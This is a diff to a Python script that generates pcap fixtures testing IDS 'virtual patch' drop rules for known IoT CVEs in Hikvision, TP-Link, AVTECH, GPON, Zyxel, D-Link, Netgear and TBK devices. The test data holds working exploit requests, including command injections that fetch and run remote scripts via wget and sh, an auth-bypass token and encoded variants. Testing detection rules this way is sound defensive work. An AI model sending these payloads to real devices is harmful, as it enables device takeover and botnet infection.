@@ -17,31 +17,34 @@ CLIENT, SERVER = "192.0.2.10", "198.51.100.20"
 
 
 def _tcp_session(segments: list[tuple[bool, bytes]], sport: int = 40000, start: float = 0.0,
-                 client: str = CLIENT, dport: int = 80) -> list:
+                 client: str = CLIENT, dport: int = 80, server: str = SERVER) -> list:
     """Handshake, then data segments (to_server flag, bytes) each acknowledged."""
     client_seq, server_seq = 1000, 5000
     frames = [
-        Ether() / IP(src=client, dst=SERVER) / TCP(sport=sport, dport=dport, flags="S", seq=client_seq),
-        Ether() / IP(src=SERVER, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=server_seq, ack=client_seq + 1),
-        Ether() / IP(src=client, dst=SERVER) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq + 1, ack=server_seq + 1),
+        Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=client_seq),
+        Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=server_seq, ack=client_seq + 1),
+        Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq + 1, ack=server_seq + 1),
     ]
     client_seq += 1
     server_seq += 1
     for to_server, data in segments:
         if to_server:
-            frames.append(Ether() / IP(src=client, dst=SERVER) / TCP(sport=sport, dport=dport, flags="PA", seq=client_seq, ack=server_seq) / Raw(data))
+            frames.append(Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="PA", seq=client_seq, ack=server_seq) / Raw(data))
             client_seq += len(data)
-            frames.append(Ether() / IP(src=SERVER, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=server_seq, ack=client_seq))
+            frames.append(Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=server_seq, ack=client_seq))
         else:
-            frames.append(Ether() / IP(src=SERVER, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=server_seq, ack=client_seq) / Raw(data))
+            frames.append(Ether() / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=server_seq, ack=client_seq) / Raw(data))
             server_seq += len(data)
-            frames.append(Ether() / IP(src=client, dst=SERVER) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq, ack=server_seq))
+            frames.append(Ether() / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq, ack=server_seq))
     for index, frame in enumerate(frames):
         frame.time = 1700000000 + start + index * 0.01
     return frames
 
 
-def _write(name: str, frames: list, rules: str, expected: dict[int, int], note: str) -> None:
+def _write(name: str, frames: list, rules: str, expected: dict[int, int], note: str,
+           blocked: dict[int, int] | None = None) -> None:
+    """`blocked`: sid -> how many of its alerts must carry action "blocked"
+    (a drop rule's verdict, the same offline as inline)."""
     folder = os.path.join(HERE, name)
     os.makedirs(folder, exist_ok=True)
     wrpcap(os.path.join(folder, "input.pcap"), frames)
@@ -51,6 +54,10 @@ def _write(name: str, frames: list, rules: str, expected: dict[int, int], note: 
     for sid, count in expected.items():
         lines += ["  - filter:", f"      count: {count}", "      match:",
                   "        event_type: alert", f"        alert.signature_id: {sid}"]
+    for sid, count in (blocked or {}).items():
+        lines += ["  - filter:", f"      count: {count}", "      match:",
+                  "        event_type: alert", f"        alert.signature_id: {sid}",
+                  "        alert.action: blocked"]
     with open(os.path.join(folder, "test.yaml"), "w") as out:
         out.write("\n".join(lines) + "\n")
 
@@ -88,6 +95,7 @@ def main() -> None:
     xbits_case()
     flowint_case()
     event_cases()
+    virtual_patch_cases()
 
 
 def event_cases() -> None:
@@ -200,6 +208,134 @@ def flowint_case() -> None:
            'flowint:other,isset; sid:1016; rev:1;)\n',
            {1013: 0, 1014: 1, 1015: 1, 1016: 0},
            "flowint: per-flow counter set by one rule, compared by others")
+
+
+# -- virtual patches ------------------------------------------------------------
+# Each case runs the rule exactly as shipped in signatures/virtual-patches.rules
+# (copied into test.rules by sid): the exploit request as botnets send it, its
+# encoded variants, and the device's normal admin traffic to the same endpoint.
+# An attacker outside (203.0.113.0/24) and one infected LAN device
+# (192.0.2.66) attack a device in HOME_NET (192.0.2.0/24).
+
+SHIPPED_RULES = os.path.join(os.path.dirname(HERE), "..", "..", "signatures", "virtual-patches.rules")
+ATTACKER, LAN_BOT, DEVICE = "203.0.113.7", "192.0.2.66", "192.0.2.21"
+OK_RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+
+
+def _shipped_rules(*sids: int) -> str:
+    wanted = {f"sid:{sid};" for sid in sids}
+    with open(SHIPPED_RULES) as handle:
+        lines = [line for line in handle
+                 if line.startswith(("alert", "drop")) and any(w in line for w in wanted)]
+    assert len(lines) == len(sids), sids
+    return "".join(lines)
+
+
+def _request(method: str, target: str, body: bytes = b"", headers: bytes = b"") -> bytes:
+    head = (f"{method} {target} HTTP/1.1\r\nHost: device\r\n".encode() + headers)
+    if body:
+        head += b"Content-Type: application/x-www-form-urlencoded\r\n"
+        head += f"Content-Length: {len(body)}\r\n".encode()
+    return head + b"\r\n" + body
+
+
+def _vpatch_case(name: str, sids: tuple[int, ...], attacks: list[bytes], benign: list[bytes],
+                 expected: dict[int, int], note: str, dport: int = 80) -> None:
+    """One connection per request: a drop ends its flow, so a benign request
+    after an exploit on the same connection would prove nothing."""
+    frames = []
+    for index, request in enumerate(attacks + benign):
+        client = LAN_BOT if index == 1 and len(attacks) > 1 else ATTACKER
+        if index >= len(attacks):
+            client = "192.0.2.30"           # the owner's phone on the LAN
+        frames += _tcp_session([(True, request), (False, OK_RESPONSE)], sport=41000 + index,
+                               start=index * 2.0, client=client, dport=dport, server=DEVICE)
+    _write(name, frames, _shipped_rules(*sids), expected, note, blocked=expected)
+
+
+def virtual_patch_cases() -> None:
+    xml = b'<?xml version="1.0" encoding="UTF-8"?>'
+    _vpatch_case(
+        "vpatch-hikvision-cve-2021-36260", (9100100,),
+        [_request("PUT", "/SDK/webLanguage", xml + b"<language>$(id>webLib/x)</language>"),
+         _request("PUT", "/SDK/webLanguage", xml + b"<language>`wget http://203.0.113.9/h -O-|sh`</language>")],
+        [_request("GET", "/SDK/webLanguage"),
+         _request("PUT", "/SDK/webLanguage", xml + b"<language>English</language>")],
+        {9100100: 2}, "Hikvision webLanguage: $( and backticks in <language> drop; a GET and a real language pass")
+    _vpatch_case(
+        "vpatch-hikvision-cve-2017-7921", (9100101,),
+        [_request("GET", "/Security/users?auth=YWRtaW46MTEK"),
+         _request("GET", "/onvif-http/snapshot?auth=YWRtaW46MTEK%0a")],
+        [_request("GET", "/onvif-http/snapshot"),
+         _request("GET", "/ISAPI/System/deviceInfo?auth=dXNlcjpzZWNyZXQ=")],
+        {9100101: 2}, "Hikvision auth bypass: the magic admin:11 token drops; other requests pass")
+    _vpatch_case(
+        "vpatch-avtech-cve-2024-7029", (9100102, 9100103),
+        [_request("POST", "/cgi-bin/supervisor/Factory.cgi",
+                  b"action=white_led&brightness=$(cd /tmp;wget http://203.0.113.9/a -O-|sh) #"),
+         _request("POST", "/cgi-bin/supervisor/Factory.cgi",
+                  b"action=white_led&brightness=%24%28id%29"),
+         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=5%26id")],
+        [_request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&brightness=50"),
+         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=100")],
+        {9100102: 2, 9100103: 1},
+        "AVTECH Factory.cgi: a non-numeric brightness drops, plain or encoded; numbers pass", dport=88)
+    _vpatch_case(
+        "vpatch-tplink-cve-2023-1389", (9100104, 9100105),
+        [_request("POST", "/cgi-bin/luci/;stok=/locale?form=country",
+                  b"operation=write&country=$(id>`wget http://203.0.113.9/t -O-|sh`)"),
+         _request("POST", "/cgi-bin/luci/;stok=/locale?form=country", b"operation=write&country=%24%28id%29"),
+         _request("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://203.0.113.9/t)")],
+        [_request("POST", "/cgi-bin/luci/;stok=0123abcd/locale?form=country", b"operation=read"),
+         _request("POST", "/cgi-bin/luci/;stok=0123abcd/locale?form=country", b"operation=write&country=DE")],
+        {9100104: 2, 9100105: 1},
+        "TP-Link locale: a country that is not a country code drops (body or query); read and DE pass",
+        dport=8080)
+    _vpatch_case(
+        "vpatch-gpon-cve-2018-10561-10562", (9100106, 9100107),
+        [_request("POST", "/GponForm/diag_Form?images/",
+                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0"),
+         _request("POST", "/GponForm/diag_Form?images/",
+                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%3bid&ipv=0")],
+        [_request("POST", "/GponForm/diag_Form",
+                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=198.51.100.1&ipv=0"),
+         _request("GET", "/images/logo.gif")],
+        {9100106: 2, 9100107: 2},
+        "GPON ONT: ?images/ bypass and a non-host dest_host drop; an authenticated ping passes")
+    _vpatch_case(
+        "vpatch-tbk-cve-2024-3721", (9100108,),
+        [_request("POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Ft.sh",
+                  headers=b"Cookie: uid=1\r\n"),
+         _request("GET", "/device.rsp?opt=sys&cmd=%5F%5F%5FS_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id",
+                  headers=b"Cookie: uid=1\r\n")],
+        [_request("GET", "/device.rsp?opt=user&cmd=list"),
+         _request("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos")],
+        {9100108: 2}, "TBK DVR: the SOS debug command with an mdc command drops; other device.rsp calls pass")
+    _vpatch_case(
+        "vpatch-zyxel-cve-2017-18368", (9100109,),
+        [_request("POST", "/cgi-bin/ViewLog.asp",
+                  b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
+                  b"&remote_host=%3bcd+/tmp;wget+http://203.0.113.9/z;sh+z%3b%23&remoteSubmit=Save"),
+         _request("POST", "/cgi-bin/ViewLog.asp", b"remote_host=198.51.100.5|id&remoteSubmit=Save")],
+        [_request("POST", "/cgi-bin/ViewLog.asp",
+                  b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
+                  b"&remote_host=198.51.100.5&remoteSubmit=Save"),
+         _request("GET", "/cgi-bin/ViewLog.asp")],
+        {9100109: 2}, "Zyxel ViewLog.asp: a remote_host that is not a host drops; a syslog server passes")
+    _vpatch_case(
+        "vpatch-dlink-nas-cve-2024-3273", (9100110,),
+        [_request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
+         _request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&%73ystem=aWQ=")],
+        [_request("GET", "/cgi-bin/nas_sharing.cgi?user=admin&passwd=c2VjcmV0&cmd=15"),
+         _request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15")],
+        {9100110: 2}, "D-Link NAS: messagebus with a system command drops; a normal share listing passes")
+    _vpatch_case(
+        "vpatch-netgear-cve-2016-6277", (9100111,),
+        [_request("GET", "/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://203.0.113.9/n;sh${IFS}n"),
+         _request("GET", "/cgi-bin/%3bid")],
+        [_request("GET", "/cgi-bin/luci/;stok=0123abcd/admin/status"),
+         _request("GET", "/cgi-bin/genie.cgi?t=1")],
+        {9100111: 2}, "Netgear: a shell metacharacter right after /cgi-bin/ drops; CGI paths pass")
 
 
 if __name__ == "__main__":
